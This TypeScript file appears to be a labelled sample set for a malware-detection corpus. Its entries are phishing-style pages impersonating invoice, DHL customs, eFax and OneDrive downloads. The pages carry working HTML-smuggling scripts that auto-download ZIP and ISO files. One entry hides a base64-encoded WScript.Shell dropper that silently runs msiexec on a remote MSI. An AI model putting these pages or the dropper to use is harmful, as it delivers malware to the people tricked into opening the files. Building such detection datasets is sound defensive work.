import { type Entry } from '../entry.js';
import { baseCss, doc, ZIP_B64 } from '../parts/d-parts.js';

/** HTML smuggling and malware delivery: Blob / data: URLs building .zip/.iso/.html/.js downloads, fake update .exe. Written for corpus/d. */


export const entries: Entry[] = [

{
  id: 'd-smug-blob-zip-invoice',
  label: 'malware',
  kind: 'smuggling-blob-zip',
  url: 'https://docs-invoice-portal.paycenter-docs.com/view/INV-0428',
  body: doc({
    title: 'Invoice INV-0428 – Download',
    css: baseCss('#1f6feb') + `.d{max-width:460px;margin:80px auto;text-align:center}`,
    body: `<div class="d card"><img src="img/pdf-icon.svg" alt="PDF" width="64"><h1 style="font-size:20px">Invoice_0428.pdf</h1><p class="muted">Your download will start automatically. If it doesn't, <a href="#" id="dl">click here</a>.</p><p class="muted">Password for the archive: <b>0428</b></p></div>
<script>
function b64ToBytes(b){var s=atob(b),a=new Uint8Array(s.length);for(var i=0;i<s.length;i++)a[i]=s.charCodeAt(i);return a}
function go(){var blob=new Blob([b64ToBytes('${ZIP_B64}')],{type:'application/zip'});var u=URL.createObjectURL(blob);var a=document.createElement('a');a.href=u;a.download='Invoice_0428.zip';document.body.appendChild(a);a.click();setTimeout(function(){URL.revokeObjectURL(u);a.remove()},1500)}
document.getElementById('dl').onclick=function(e){e.preventDefault();go()};setTimeout(go,1200);
</script>`,
  }),
},

{
  id: 'd-smug-data-url-iso',
  label: 'malware',
  kind: 'smuggling-data-url',
  url: 'https://shipment-docs.freightline-notify.com/customs/declaration.html',
  body: doc({
    title: 'Customs Declaration – Document',
    css: `body{font-family:Arial;background:#eceff1;margin:0}.x{max-width:520px;margin:70px auto;background:#fff;padding:30px;border-radius:6px}`,
    body: `<div class="x"><h2>DHL Express – Customs declaration</h2><p>Your shipment 5591 2284 03 requires a signed customs declaration. Open the attached document, sign it and return it to your local customs office.</p><a id="a" class="btn" style="background:#d40511;color:#fff;padding:10px 18px;display:inline-block;text-decoration:none">Download declaration</a></div>
<script>
var h='${Buffer.concat([Buffer.from('0000000000000000', 'hex'), Buffer.from('CD001\x01', 'latin1'), Buffer.from('\0'.repeat(26) + 'CUSTOMS_DECL' + ' '.repeat(20)), Buffer.from('Customs_Declaration.pdf.lnk')]).toString('base64')}';
var el=document.getElementById('a');el.href='data:application/octet-stream;base64,'+h;el.download='Customs_Declaration_5591228403.iso';setTimeout(function(){el.click()},800);
</script>`,
  }),
},

{
  id: 'd-smug-html-attachment-dropper',
  label: 'malware',
  kind: 'smuggling-html-js',
  url: 'https://secure-fax-portal.efax-messages.net/fax/0193-2281/view',
  body: doc({
    title: 'eFax Message — 3 pages',
    css: baseCss('#c8102e') + `.f{max-width:520px;margin:60px auto}`,
    body: `<div class="f card"><h1 style="font-size:20px">You have received a new fax</h1><p class="muted">From: +1 (312) 555-0182 · Pages: 3 · Received: today 09:14</p><p>Preparing secure document viewer…</p><p><a href="#" id="r">Retry download</a></p></div>
<script>
(function(){var p=['dmFyIHNoPW5ldyBBY3RpdmVYT2JqZWN0KCdXU2NyaXB0LlNoZWxsJyk7','c2guUnVuKCdtc2lleGVjIC9xIC9pIGh0dHBzOi8vZWZheC1tZXNzYWdlcy5uZXQvdmlld2VyL3NldHVwLm1zaScsMCk7'];
var d=new Blob([atob(p[0])+atob(p[1])],{type:'text/javascript'});var n='Fax_0193_2281.pdf.js';
if(window.navigator.msSaveOrOpenBlob){window.navigator.msSaveOrOpenBlob(d,n)}else{var a=document.createElement('a');a.style.display='none';a.href=window.URL.createObjectURL(d);a.download=n;document.body.appendChild(a);a.click()}
document.getElementById('r').onclick=function(e){e.preventDefault();a&&a.click()}})();
</script>`,
  }),
},

{
  id: 'd-smug-onedrive-pdf-zip',
  label: 'malware',
  kind: 'smuggling-blob-zip',
  url: 'https://onedrive-share.docsafe-transfer.com/download/Settlement_Agreement',
  body: doc({
    title: 'OneDrive',
    css: `body{margin:0;font-family:"Segoe UI",sans-serif;background:#faf9f8}.t{height:48px;background:#0078d4;color:#fff;display:flex;align-items:center;padding:0 16px;font-weight:600}.c{max-width:440px;margin:80px auto;background:#fff;padding:30px;text-align:center;box-shadow:0 1.6px 3.6px rgba(0,0,0,.13)}.c button{background:#0078d4;color:#fff;border:0;padding:10px 28px;font-size:15px}`,
    body: `<div class="t">OneDrive</div><div class="c"><img src="img/pdf.svg" width="60" alt=""><h2>Settlement_Agreement.pdf</h2><p>Shared with you by j.morales@harbor-legal.com</p><button id="b">Download</button></div>
<script>
var z='${ZIP_B64}';
document.getElementById('b').onclick=function(){var bin=atob(z),buf=new Uint8Array(bin.length);for(var i=0;i<bin.length;i++)buf[i]=bin.charCodeAt(i);
var f=new File([buf],'Settlement_Agreement.zip',{type:'application/x-zip-compressed'});var l=document.createElement('a');l.href=URL.createObjectURL(f);l.download=f.name;l.click()};
</script>`,
  }),
},

];
